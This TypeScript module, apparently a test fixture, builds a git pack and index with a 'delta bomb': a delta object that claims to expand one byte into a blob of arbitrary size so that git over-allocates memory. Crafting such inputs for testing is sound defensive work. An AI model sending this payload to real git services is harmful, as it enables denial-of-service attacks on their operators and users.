import { createHash } from 'node:crypto';
import { deflateSync } from 'node:zlib';

/** The blob that the pack below claims to have. Git does not compute the id again when it reads a pack. */
export const BOMB = 'b'.repeat(40);

/**
 * A pack of two objects, and its index: one byte, and a delta on it that claims to make a blob of `size` bytes. Git
 * allocates that size before it applies the first instruction.
 */
export function deltaBomb(size: number): { readonly pack: Uint8Array; readonly index: Uint8Array } {
  const base = Buffer.concat([entryHeader(3, 1), deflateSync('a')]);
  // Copies the one byte of the base.
  const delta = Buffer.concat([varint(1), varint(size), Buffer.from([0x90, 1])]);
  const header = Buffer.concat([Buffer.from('PACK'), words(2, 2)]);
  const bomb = Buffer.concat([entryHeader(6, delta.length), Buffer.from([base.length]), deflateSync(delta)]);
  const body = Buffer.concat([header, base, bomb]);
  const pack = Buffer.concat([body, sha1(body)]);
  const ids = ['a'.repeat(40), BOMB].map(id => Buffer.from(id, 'hex'));
  const table = Buffer.concat([
    Buffer.from([0xff, 0x74, 0x4f, 0x63]),
    words(2, ...Array.from({ length: 256 }, (_, first) => (first < 0xaa ? 0 : first < 0xbb ? 1 : 2))),
    ...ids,
    words(0, 0),
    words(header.length, header.length + base.length),
    pack.subarray(-20),
  ]);
  return { pack, index: Buffer.concat([table, sha1(table)]) };
}

/** Type and size: four bits of the size, then seven a byte. */
function entryHeader(type: number, size: number): Uint8Array {
  return Buffer.from([(type << 4) | size]);
}

function varint(value: number): Uint8Array {
  const bytes: number[] = [];
  for (let rest = value; ; rest = Math.floor(rest / 128)) {
    if (rest < 128) return Buffer.from([...bytes, rest]);
    bytes.push((rest % 128) | 0x80);
  }
}

function words(...values: readonly number[]): Uint8Array {
  const bytes = Buffer.alloc(4 * values.length);
  for (const [index, value] of values.entries()) bytes.writeUInt32BE(value, 4 * index);
  return bytes;
}

function sha1(bytes: Uint8Array): Uint8Array {
  return createHash('sha1').update(bytes).digest();
}
